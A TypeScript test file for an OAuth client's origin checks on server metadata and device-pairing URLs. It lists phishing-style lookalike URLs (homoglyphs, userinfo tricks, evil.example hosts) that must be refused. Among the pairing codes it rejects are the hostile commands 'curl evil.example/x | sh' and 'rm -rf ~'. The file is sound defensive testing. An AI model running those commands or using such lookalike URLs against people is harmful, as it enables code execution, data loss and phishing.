// The origin rules for what a server sends: the issuer its metadata names (RFC 8414 section
// 3.3) and the addresses a person is told to open (RFC 8628 section 5.4). The URL parser
// decides what an origin is; these cases are the ones a phisher tries.
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { metadataUrls, parseMetadata } from '../../../effects/client/discovery.js'
import { EngineError } from '../../../effects/client/engine-error.js'
import { isUserCode, parseDeviceAuthorization } from '../../../effects/client/device-grant.js'
import { checkSameOriginUrl, hostOf, originOf } from '../../../effects/client/server-url.js'
import { holdSecrets, releaseSecrets } from '../../../effects/client/held-secrets.js'
import { wordsOf } from '../../support/failure-words.js'

const ISSUER = 'https://auth.omicos.cn'

const refused = (fn: () => unknown, value: string) => {
  try {
    fn()
  } catch (error) {
    assert.instance(error, EngineError)
    assert.is((error as EngineError).kind, 'bad_response', value)
    // The raw value is what a phisher wants shown: never in the message.
    const host = (() => {
      try {
        return new URL(value).host
      } catch {
        return value
      }
    })()
    if (host !== 'auth.omicos.cn') assert.not.ok(wordsOf(error as Error).includes(value), wordsOf(error as Error))
    assert.not.match(wordsOf(error as Error), /evil|xn--|\u0430/)
    return
  }
  assert.unreachable(`accepted ${JSON.stringify(value)}`)
}

test('the URL parser normalizes: case, default port, IDN to punycode; a trailing dot stays', () => {
  assert.is(originOf('HTTPS://Auth.Omicos.CN:443/device'), ISSUER)
  assert.is(originOf('https://bücher.example/x'), 'https://xn--bcher-kva.example')
  assert.is(originOf('https://auth.omicos.cn./x'), 'https://auth.omicos.cn.')
  assert.is(originOf('not a url'), null)
  assert.is(originOf('data:text/html,hi'), null)
})

test('pairing addresses on the issuer origin are accepted, however spelled', () => {
  for (const ok of ['https://auth.omicos.cn/device', 'HTTPS://AUTH.OMICOS.CN/device?user_code=BCDF-GHJK', 'https://auth.omicos.cn:443/device']) {
    assert.is(checkSameOriginUrl(ok, 'verification_uri', ISSUER), ok)
  }
  assert.ok(checkSameOriginUrl('http://127.0.0.1:4000/device', 'verification_uri', 'http://127.0.0.1:4000'))
})

test('pairing addresses on any other origin are refused: userinfo, lookalikes, ports, trailing dots, schemes', () => {
  for (const bad of [
    'https://evil.example/device',
    'https://auth.omicos.cn@evil.example/device', // userinfo: the host is evil.example
    'https://auth.omicos.cn:pw@auth.omicos.cn/device', // userinfo on the right host
    'https://auth.omicos.cn.evil.example/device',
    'https://auth.omicos.cn./device', // trailing dot: another origin
    'https://auth.omicos.cn:8443/device', // another port
    'https://\u0430uth.omicos.cn/device', // Cyrillic a: xn--uth-8cd.omicos.cn
    'https://xn--uth-8cd.omicos.cn/device', // the same, already punycode
    'https://auth.omicos.cn\u3002evil.example/device', // ideographic full stop is a dot to the parser
    'https://auth-omicos.cn/device',
    'https://omicos.cn/device', // a parent domain is another origin
    'http://auth.omicos.cn/device', // another scheme
    'https://auth.omicos.cn\u202e/device', // bidi override
    'javascript:alert(1)',
    '//evil.example/device',
    '/device',
  ]) {
    refused(() => checkSameOriginUrl(bad, 'verification_uri', ISSUER), bad)
  }
})

test('a device authorization answer is checked against the issuer origin, both addresses', () => {
  const answer = (extra: object) => ({
    device_code: 'dc-0123456789',
    user_code: 'BCDF-GHJK',
    verification_uri: `${ISSUER}/device`,
    expires_in: 600,
    ...extra,
  })
  assert.is(parseDeviceAuthorization(answer({}), 0, ISSUER).verificationUri, `${ISSUER}/device`)
  refused(() => parseDeviceAuthorization(answer({ verification_uri: 'https://evil.example/device' }), 0, ISSUER), 'https://evil.example/device')
  refused(
    () => parseDeviceAuthorization(answer({ verification_uri_complete: 'https://\u0430uth.omicos.cn/device?user_code=BCDF-GHJK' }), 0, ISSUER),
    'https://\u0430uth.omicos.cn/device?user_code=BCDF-GHJK',
  )
  // On the right origin, but carrying the device code (a secret) to be shown and put in a QR code.
  assert.throws(
    () => parseDeviceAuthorization(answer({ verification_uri_complete: `${ISSUER}/device?c=dc-0123456789` }), 0, ISSUER),
    (e: EngineError) => e.kind === 'bad_response' && /holding a secret/.test(wordsOf(e)) && !wordsOf(e).includes('dc-0123456789'),
  )
  releaseSecrets()
})

test('pairing codes: letters and digits with single hyphens or spaces, 4..20 of them', () => {
  for (const ok of ['BCDF-GHJK', 'WDJB MJHT', 'ABCD', '123456', 'abcd-efgh-ijkl-mnop-qrst']) assert.ok(isUserCode(ok), ok)
  for (const bad of [
    'curl evil.example/x | sh',
    'ABC',
    'ABCD--EFGH',
    'ABCD  EFGH',
    ' ABCD',
    'ABCD-',
    'ABCDEFGHIJKLMNOPQRSTU',
    'ÀBCD-EFGH',
    'АBCD-EFGH', // Cyrillic A
    'ABCD_EFGH',
    'ABCD\u200bEFGH',
    'rm -rf ~',
    'ABCD;EFGH',
  ]) {
    assert.not.ok(isUserCode(bad), bad)
  }
})

test('metadata: the issuer must be the server asked, as the URL parser normalizes both', () => {
  const doc = (issuer: unknown, extra: object = {}) => ({ issuer, token_endpoint: `${ISSUER}/token`, ...extra })
  for (const ok of [ISSUER, `${ISSUER}/`, 'HTTPS://AUTH.OMICOS.CN', 'https://auth.omicos.cn:443']) {
    assert.is(parseMetadata(doc(ok), ISSUER).token_endpoint, `${ISSUER}/token`, ok)
  }
  for (const bad of [
    'https://evil.example',
    'https://auth.omicos.cn.',
    'https://auth.omicos.cn:8443',
    'http://auth.omicos.cn',
    'https://\u0430uth.omicos.cn',
    'https://user@auth.omicos.cn',
    'https://auth.omicos.cn/other',
    undefined,
    42,
  ]) {
    assert.throws(
      () => parseMetadata(doc(bad), ISSUER),
      (e: EngineError) => e.kind === 'bad_response' && /another issuer/.test(wordsOf(e)),
      String(bad),
    )
  }
  // A server on a path is its own issuer, path included.
  assert.ok(parseMetadata(doc('https://auth.omicos.cn/tenant', {}), 'https://auth.omicos.cn/tenant'))
})

test('metadata: endpoints are https for an https server; loopback http only for a loopback server', () => {
  const doc = (endpoint: string, issuer = ISSUER) => ({ issuer, token_endpoint: endpoint })
  assert.throws(
    () => parseMetadata(doc('http://127.0.0.1:4000/token'), ISSUER),
    (e: unknown) => /must be https like the server/.test(wordsOf(e)),
  )
  assert.ok(parseMetadata(doc('http://127.0.0.1:4000/token', 'http://127.0.0.1:4000'), 'http://127.0.0.1:4000'))
  assert.throws(
    () => parseMetadata(doc('http://evil.example/token', 'http://127.0.0.1:4000'), 'http://127.0.0.1:4000'),
    (e: unknown) => /plain http is only allowed/.test(wordsOf(e)),
  )
})

test("metadata: the endpoints that receive credentials are on the issuer's origin, or nothing is used", () => {
  const keys = ['token_endpoint', 'revocation_endpoint', 'omicos_account_endpoint', 'omicos_process_endpoint']
  const base = { issuer: ISSUER, token_endpoint: `${ISSUER}/token` }
  for (const key of keys) {
    for (const elsewhere of [
      'https://auth.omicos.cn.evil.example/x',
      'https://auth.omicos.cn:8443/x',
      'https://evil.example/x',
      'https://auth.omicos.cn.@evil.example/x'.replace('.@', '.'),
    ]) {
      assert.throws(
        () => parseMetadata({ ...base, [key]: elsewhere }, ISSUER),
        (e: EngineError) => {
          const failure = e.failure
          return (
            failure.reason === 'endpointOffOrigin' &&
            failure.kind === 'bad_response' &&
            failure.details.field === key &&
            failure.details.issuerOrigin === ISSUER &&
            wordsOf(e).includes(ISSUER) &&
            wordsOf(e).includes(String(failure.details.endpointOrigin))
          )
        },
        `${key} on ${elsewhere}`,
      )
    }
    // The same origin as the URL parser normalizes it, on any path.
    assert.ok(parseMetadata({ ...base, [key]: 'HTTPS://Auth.Omicos.CN:443/deep/path' }, ISSUER))
  }
  // A loopback server's other port is another origin too.
  assert.throws(
    () => parseMetadata({ issuer: 'http://127.0.0.1:4000', token_endpoint: 'http://127.0.0.1:4001/token' }, 'http://127.0.0.1:4000'),
    (e: unknown) => /not on the issuer's origin http:\/\/127\.0\.0\.1:4000/.test(wordsOf(e)),
  )
  // Endpoints that receive no credential are not held to it (the pairing addresses have their own rule).
  assert.ok(parseMetadata({ ...base, device_authorization_endpoint: 'https://pairing.omicos.cn/device/auth' }, ISSUER))
  // Metadata read without a server to compare with (a front end that passes its own) is taken as it is.
  assert.ok(parseMetadata({ ...base, token_endpoint: 'https://elsewhere.example/token' }))
})

test('discovery reads RFC 8414 section 3.1 addresses for an issuer with a path, OpenID ones appended', () => {
  assert.equal(metadataUrls('https://auth.omicos.cn'), [
    'https://auth.omicos.cn/.well-known/oauth-authorization-server',
    'https://auth.omicos.cn/.well-known/openid-configuration',
  ])
  assert.equal(metadataUrls('https://auth.omicos.cn/tenant/one'), [
    'https://auth.omicos.cn/.well-known/oauth-authorization-server/tenant/one',
    'https://auth.omicos.cn/tenant/one/.well-known/openid-configuration',
  ])
})

test('an endpoint host in a message passes the redaction too', () => {
  holdSecrets('tok3n-secret-value')
  assert.is(hostOf('https://tok3n-secret-value.evil.example/process'), '[redacted].evil.example')
  assert.is(hostOf('not a url'), null)
  releaseSecrets()
})

test.run()
